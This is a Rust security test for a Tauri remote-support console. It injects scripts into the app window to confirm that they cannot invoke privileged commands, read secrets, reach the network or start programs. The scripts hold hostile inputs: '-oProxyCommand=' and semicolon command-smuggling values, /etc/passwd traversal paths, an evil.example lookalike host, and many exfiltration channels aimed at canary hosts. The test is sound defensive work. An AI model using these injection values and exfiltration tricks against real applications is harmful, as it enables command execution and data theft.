//! A script that really runs in the main window, as if something had slipped through: what it can reach, and what not.

use serde_json::{Value, json};

use super::Window;
use super::canary::Canaries;
use crate::console::Console;
use crate::faulty::FaultyPortal;

/// Every command that the shell offers, as its build names them.
const COMMANDS: &str = include_str!("../../src-tauri/build.rs");

/// Calls each command with each bad value under every name that any command knows, and keeps what came of it.
const CALLS: &str = r#"
    const [commands, files, tickets] = arguments;
    const invoke = window.__TAURI_INTERNALS__.invoke;
    const names = ['account', 'ask', 'assign', 'change', 'changes', 'customer', 'decision', 'edit', 'form', 'handOver',
        'id', 'key', 'kind', 'mapping', 'mark', 'name', 'online', 'passphrase', 'policy', 'request', 'text', 'ticket',
        'value', 'verification'];
    let deep = [];
    for (let at = 0; at < 2000; at += 1) deep = [deep];
    const bad = [...files, 'x'.repeat(1e5), '\u0000\u202e', -1, 1e308, null, [], {}, deep, {__proto__: {key: 1}}];
    const all = [undefined, ...bad.map((value) => Object.fromEntries(names.map((name) => [name, value])))];
    window.told = null;
    (async () => {
        const told = [];
        for (const command of commands) {
            for (const args of all) {
                try {
                    told.push([command, 'answer', JSON.stringify(await invoke(command, args)) ?? '']);
                } catch (error) {
                    told.push([command, 'error', typeof error === 'string' ? error : JSON.stringify(error)]);
                }
            }
        }
        window.told = JSON.stringify(told);
    })();
"#;

/// Tries what no page of this program may.
const REACHES: &str = r#"
    const [address] = arguments;
    const invoke = window.__TAURI_INTERNALS__.invoke;
    const plugins = ['plugin:shell|open', 'plugin:shell|execute', 'plugin:shell|spawn', 'plugin:fs|read_text_file',
        'plugin:fs|write_file', 'plugin:opener|open_url', 'plugin:opener|open_path', 'plugin:process|exit',
        'plugin:http|fetch', 'plugin:updater|check', 'plugin:webview|create_webview_window',
        'plugin:webview|internal_toggle_devtools', 'plugin:window|create', 'plugin:window|close', 'plugin:path|resolve_directory',
        'plugin:resources|close', 'plugin:event|emit', 'plugin:app|version', 'report_to', 'serve_demo'];
    window.reached = null;
    window.forbidden = [];
    addEventListener('securitypolicyviolation', ({effectiveDirective}) => window.forbidden.push(effectiveDirective));
    (async () => {
        const reached = [];
        const tries = {
            fetch: () => fetch(address),
            image: () => new Promise((done, failed) => {
                const image = new Image();
                image.onload = done;
                image.onerror = failed;
                image.src = address;
            }),
            script: () => new Promise((done, failed) => {
                const script = document.createElement('script');
                script.onload = done;
                script.onerror = failed;
                script.src = address;
                document.body.append(script);
            }),
            frame: () => new Promise((done, failed) => {
                const frame = document.createElement('iframe');
                frame.src = address;
                document.body.append(frame);
                setTimeout(failed, 500);
            }),
            socket: () => new Promise((done, failed) => {
                const socket = new WebSocket(address.replace('http', 'ws'));
                socket.onopen = done;
                socket.onerror = failed;
            }),
            // WebKit throws where the policy forbids it.
            evaluate: async () => setTimeout.constructor('return 1')(),
        };
        for (const [name, reach] of Object.entries(tries)) {
            try {
                await reach();
                reached.push(name);
            } catch {
                // That is how it should be.
            }
        }
        for (const plugin of plugins) {
            try {
                await invoke(plugin, {path: '/etc/passwd', url: address, program: 'touch', args: ['x'], label: 'x', options: {}});
                reached.push(plugin);
            } catch {
                // That is how it should be.
            }
        }
        navigator.sendBeacon?.(address, 'x');
        // Names, of which a look-up alone would tell somebody something.
        const name = (way) => `https://${way}.canary.test/x`;
        const ways = {
            fetch: (url) => fetch(url).catch(() => {}),
            image: (url) => { new Image().src = url; },
            beacon: (url) => navigator.sendBeacon?.(url, 'x'),
            socket: (url) => new WebSocket(url.replace('https', 'wss')),
            events: (url) => new EventSource(url),
            worker: (url) => new Worker(url),
            font: (url) => new FontFace('x', `url(${url})`).load().catch(() => {}),
            style: (url) => { document.body.style.backgroundImage = `url(${url})`; },
            share: () => { new Image().src = 'file://share.canary.test/share/x.png'; },
            stun: () => {
                const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:stun.canary.test'}]});
                peer.createDataChannel('x');
                return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
            },
        };
        for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest'])
            ways[rel] = (url) => {
                const link = Object.assign(document.createElement('link'), {rel, href: url});
                if (rel === 'preload') link.as = 'image';
                document.head.append(link);
            };
        for (const [way, look] of Object.entries(ways)) {
            try {
                await look(name(way));
            } catch {
                // That is how it should be.
            }
        }
        document.body.style.backgroundImage = '';
        window.reached = JSON.stringify(reached);
    })();
"#;

#[tokio::test(flavor = "multi_thread")]
async fn case_022_a_script_in_the_main_window_starts_nothing_reads_no_token_and_reaches_no_network() {
    let folder = tempfile::tempdir().unwrap();
    let (console, portal) = (Console::new(folder.path()), FaultyPortal::start(30));
    console.connect("open", &portal.address(), portal.token());
    console.ask(&["sync"]);
    let key = console.rows()[0]["key"].clone();
    let home = folder.path().join("home");
    std::fs::create_dir(&home).unwrap();
    let secret = folder.path().join("secret.txt");
    std::fs::write(&secret, "words that only this file has").unwrap();
    let canaries = Canaries::start(folder.path());
    let address = format!("http://127.0.0.1:{}/", canaries.http);

    let (names, home_too) = (canaries.with_own_names(), [("HOME", home.to_str().unwrap())]);
    let window = Window::open_through(&names, &console.folder, &[], &home_too).await;
    window.unlock().await;
    window.find("[role=option]").await;
    assert_eq!(window.script("return Object.isFrozen(Object.prototype)").await, true, "case 133");

    window.client.execute(REACHES, vec![json!(address)]).await.unwrap();
    let reached = window.until("all ways were tried", "return window.reached").await;
    assert_eq!(reached, "[]", "a script reached something");
    tokio::time::sleep(std::time::Duration::from_secs(2)).await;
    assert_eq!(canaries.knocks(), Vec::<String>::new(), "the network was reached");
    // The policy alone keeps them back; that nothing behind it leads anywhere comes on top.
    let forbidden = window.script("return [...new Set(window.forbidden)].sort().join(' ')").await;
    for directive in ["connect-src", "font-src", "frame-src", "img-src", "script-src", "style-src"] {
        assert!(forbidden.as_str().unwrap().contains(directive), "{directive} is not in {forbidden}");
    }

    // Those that put another console in the place of this one come last, by themselves.
    let last = ["lock", "open_demo", "start_anew", "unlock"];
    let commands: Vec<&str> =
        COMMANDS.lines().filter_map(|line| line.trim().strip_prefix('"')?.strip_suffix("\",")).collect();
    assert!(commands.len() > 50 && last.iter().all(|name| commands.contains(name)), "{commands:?}");
    let most: Vec<&str> = commands.iter().copied().filter(|name| !last.contains(name)).collect();
    let files = json!([secret, "../../../../etc/passwd", "file:///etc/passwd"]);
    window.client.execute(CALLS, vec![json!(most), files.clone(), key.clone()]).await.unwrap();
    let told = window.until("all commands were called", "return window.told").await;
    let told: Vec<(String, String, String)> = serde_json::from_str(told.as_str().unwrap()).unwrap();
    for (command, kind, words) in &told {
        let holds = |text: &str| words.contains(text);
        let leaks = holds(portal.token()) || holds("words that only this file has") || holds("root:x:0");
        assert!(!leaks && !holds("\"internal\""), "{command} gave an {kind}: {words}");
    }
    for command in &most {
        assert!(told.iter().any(|(name, ..)| name == command), "{command} was not called");
    }

    // A script can also say that somebody agreed: what it asks for then is still typed and shown.
    let permit = "const [key, done] = arguments;
        const call = (name, request) => window.__TAURI_INTERNALS__.invoke(name, {request});
        const asked = {key, tool: 'ssh', host: '127.0.0.1', port: '', user: '', jump: '', confirmed: '',
                       accepted_by: '', accepted_words: '', override_reason: ''};
        (async () => {
            await call('record_consent', {key, by: 'nobody', how: '', hours: 1, tool: '', host: ''});
            const {permit} = await call('remote_check', asked);
            for (const {requirement} of permit.checks)
                await call('set_check', {key, requirement, by: 'nobody', waived: false, why: ''});
            return call('remote_check', asked);
        })().then(({reasons}) => done(reasons.map(({code}) => code)), (error) => done(['failed', error]))";
    let left = window.client.execute_async(permit, vec![json!(key)]).await.unwrap();
    let left = left.as_array().unwrap();
    assert!(
        !left.iter().any(|code| ["failed", "consent", "requirement"].iter().any(|word| code == word)),
        "{left:?}"
    );

    let canary_file = home.join("started");
    let command = format!("touch {}", canary_file.display());
    for (tool, host, port, user, jump) in [
        ("ssh", format!("-oProxyCommand={command}"), "", "", ""),
        ("ssh", format!("a;{command}"), "", "", ""),
        ("ssh", "127.0.0.1".to_owned(), "22 -oProxyCommand=x", "", ""),
        ("ssh", "127.0.0.1".to_owned(), "", "-oProxyCommand=x", ""),
        ("ssh", "127.0.0.1".to_owned(), "", "", "-oProxyCommand=x"),
        ("vnc", "via=127.0.0.1".to_owned(), "", "", ""),
        ("web", "file:///usr/bin/touch".to_owned(), "", "", ""),
        ("gotoassist", "https://gotoassist.com.evil.example/".to_owned(), "", "", ""),
        ("sh", command.clone(), "", "", ""),
        ("/usr/bin/touch", canary_file.display().to_string(), "", "", ""),
    ] {
        let script = "const done = arguments[arguments.length - 1];
            window.__TAURI_INTERNALS__.invoke('remote_start', {request: arguments[0]})
                .then((answer) => done(answer.allowed === true && answer.session !== null), () => done(false))";
        let request: Value = json!({"key": key, "tool": tool, "host": host, "port": port, "user": user,
            "jump": jump, "confirmed": "", "accepted_by": "", "accepted_words": "", "override_reason": ""});
        let started = window.client.execute_async(script, vec![request]).await.unwrap();
        assert_eq!(started, false, "{tool} {host} {port} {user} {jump} was started");
    }
    assert!(!canary_file.exists(), "a script started a program");
    assert!(canaries.knocks().iter().all(|knock| !knock.contains("canary.test")), "{:?}", canaries.knocks());
    // It is all there still, and answers.
    window.go_to_queue().await;
    window.find("[role=option]").await;
    window.close().await;
}
